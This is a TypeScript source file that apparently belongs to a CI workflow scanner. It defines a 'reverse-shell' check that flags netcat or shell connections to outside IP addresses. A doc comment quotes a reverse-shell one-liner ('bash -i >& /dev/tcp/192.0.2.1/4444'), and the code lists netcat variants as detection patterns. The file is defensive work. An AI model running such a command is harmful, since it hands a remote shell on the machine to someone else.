import type { ShellCommand } from '../../documents/shell.ts'
import type { Check, Outcome } from '../check.ts'
import { stepsOf } from './steps.ts'

const NETCAT = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'])
const IP_ADDRESS = /^(\d{1,3}\.){3}\d{1,3}$/
/** Addresses of the runner itself. */
const OWN_ADDRESS = /^(127\.|0\.0\.0\.0$)/

/** Finds connections from a step to a bare address, as those that hand a shell to somebody else. */
export const reverseShell: Check = {
  name: 'workflow/reverse-shell',
  question: 'Does a script connect netcat, or a shell itself, to an IP address?',
  reads: ['workflow', 'action'],
  *look(project): Iterable<Outcome> {
    for (const { step } of stepsOf(project)) {
      for (const command of step.run?.script?.commands ?? []) {
        const address = netcatTarget(command) ?? deviceTarget(command)
        if (address !== undefined) yield { state: 'fail', at: command.at, facts: { program: command.name ?? 'a program', address } }
        else if (NETCAT.has(command.name ?? '')) yield { state: 'pass', at: command.at }
      }
    }
  },
}

/** A mere look whether a port is open (`-z`) sends nothing. */
function netcatTarget({ name, args }: ShellCommand): string | undefined {
  if (!NETCAT.has(name ?? '')) return undefined
  const words = args.map((arg) => arg.value ?? '')
  if (words.some((word) => /^-\w*z/.test(word))) return undefined
  return words.find((word) => IP_ADDRESS.test(word) && !OWN_ADDRESS.test(word))
}

/** `bash -i >& /dev/tcp/192.0.2.1/4444`. */
function deviceTarget({ redirects, name }: ShellCommand): string | undefined {
  if (!['bash', 'sh', 'exec', 'zsh', 'dash'].includes(name ?? '')) return undefined
  for (const { target } of redirects) {
    const address = /^\/dev\/(?:tcp|udp)\/([^/]+)\//.exec(target?.value ?? '')?.[1]
    if (address !== undefined && IP_ADDRESS.test(address) && !OWN_ADDRESS.test(address)) return address
  }
  return undefined
}
